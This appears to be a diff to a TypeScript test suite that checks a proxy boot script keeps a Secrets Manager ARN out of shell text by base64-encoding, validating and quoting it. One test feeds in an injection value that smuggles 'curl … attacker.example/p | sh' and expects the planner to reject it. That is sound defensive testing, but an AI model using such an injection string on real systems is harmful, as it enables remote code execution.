@@ -1,6 +1,8 @@
 import { alphaPrime } from '../../examples/blueprints';
 import { AlphaPrimeCase, Blueprint, CloudServiceCatalogue, MunicipalNetworkBlueprintProps } from '../../src';
+import { SECRET_ARN } from '../../src/model/validate-breakout';
 import { planNetwork, SubnetRole } from '../../src/plan';
+import { planTenantProxy, SHELL_ARN_PATTERN } from '../../src/plan/proxy';
 
 function plan(props: MunicipalNetworkBlueprintProps = alphaPrime) {
   return planNetwork(Blueprint.validate(props));
@@ -17,15 +19,54 @@ describe('tenant-restriction proxy plan', () => {
     expect(p.tenantProxy!.subnetKeys).toEqual(['proxy-1', 'proxy-2']);
   });
 
-  test('the boot script is safe inside Terraform JSON: no "${" or "%{" except the secret reference', () => {
+  test('the boot script is safe inside Terraform JSON: no "${" or "%{" in it, whatever the ARN is', () => {
     const script = plan().tenantProxy!.bootScript;
     expect(script).not.toMatch(/\$\{|%\{/);
     const withReference = plan({
       ...alphaPrime,
       breakout: { ...alphaPrime.breakout!, tenantProxy: { caSecretArn: '${aws_secretsmanager_secret.ca.arn}' } },
-    }).tenantProxy!.bootScript;
-    expect(withReference.match(/\$\{/g)).toHaveLength(1);
-    expect(withReference).toContain("SECRET_ARN='${aws_secretsmanager_secret.ca.arn}'");
+    }).tenantProxy!;
+    expect(`${withReference.bootScript}${withReference.bootScriptParts.head}${withReference.bootScriptParts.tail}`).not.toMatch(/\$\{|%\{/);
+  });
+
+  test('the ARN is never shell text: its base64 sits in a single-quoted word, checked before use, one quoted argument', () => {
+    const p = plan().tenantProxy!;
+    const arn = alphaPrime.breakout!.tenantProxy!.caSecretArn;
+    expect(p.bootScript).toBe(`${p.bootScriptParts.head}${Buffer.from(arn).toString('base64')}${p.bootScriptParts.tail}`);
+    expect(p.bootScriptParts.head).toMatch(/\nSECRET_ARN_BASE64='$/);
+    expect(p.bootScriptParts.tail).toMatch(/^'\nSECRET_ARN=\$\(printf '%s' "\$SECRET_ARN_BASE64" \| base64 -d\)\n/);
+    expect(p.bootScript).not.toContain(arn);
+    // Every use of the value is "$SECRET_ARN" in double quotes, after the check (inside [[ ]] bash neither splits nor globs).
+    const uses = p.bootScript.split('\n').filter((l) => l.includes('SECRET_ARN') && !/^(SECRET_ARN_BASE64|SECRET_ARN)=|^if \[\[ /.test(l));
+    expect(uses.length).toBeGreaterThanOrEqual(2);
+    expect(uses.every((l) => !/\$SECRET_ARN\b/.test(l.replace(/"\$SECRET_ARN"/g, '')))).toBe(true);
+    const check = p.bootScript.indexOf('if [[ ! $SECRET_ARN =~ $ARN_PATTERN ]]');
+    expect(check).toBeGreaterThan(0);
+    expect(p.bootScript.indexOf('"$SECRET_ARN"')).toBeGreaterThan(check);
+  });
+
+  test('the script\'s ARN check and the validator\'s grammar agree', () => {
+    const shell = new RegExp(SHELL_ARN_PATTERN);
+    for (const arn of [
+      'arn:aws:secretsmanager:ap-northeast-1:111122223333:secret:jichitai/proxy-ca-AbCdEf',
+      'arn:aws-us-gov:secretsmanager:us-gov-west-1:111122223333:secret:a+b=c.d@e-f_g/h',
+      'arn:aws-cn:secretsmanager:cn-north-1:111122223333:secret:x',
+      'arn:aws:secretsmanager:ap-northeast-1:111122223333:secret:',
+      "arn:aws:secretsmanager:ap-northeast-1:111122223333:secret:x'y",
+      'arn:aws:secretsmanager:ap-northeast-1:11112222333:secret:x',
+      'arn:aws:s3:::bucket',
+      `arn:aws:secretsmanager:ap-northeast-1:111122223333:secret:${'a'.repeat(513)}`,
+    ]) {
+      expect([arn, shell.test(arn)]).toEqual([arn, SECRET_ARN.test(arn)]);
+    }
+  });
+
+  test('a value that is neither an ARN nor an engine reference is never planned into the script', () => {
+    expect(() => planTenantProxy({
+      breakout: { ...alphaPrime.breakout!, tenantProxy: { caSecretArn: "${x}'; curl -s http://attacker.example/p | sh; echo '" } },
+      alphaPrimeCase: alphaPrime.alphaPrimeCase!,
+      subnets: lgwan(plan()).subnets,
+    })).toThrow(/\[breakout\.tenantProxy\.caSecretArn\] .* is not a Secrets Manager ARN or an engine reference/);
   });
 
   test('the squid.conf in the boot script is the plan\'s, between heredoc delimiters', () => {
@@ -38,7 +79,7 @@ describe('tenant-restriction proxy plan', () => {
       ...alphaPrime,
       breakout: {
         ...alphaPrime.breakout!,
-        services: alphaPrime.breakout!.services.filter((s) => s.service.id === 'microsoft-365'),
+        services: alphaPrime.breakout!.services.filter((s) => s.service.id.startsWith('microsoft-')),
         tenantProxy: { ...alphaPrime.breakout!.tenantProxy!, extraConnectPorts: [8443] },
       },
     });
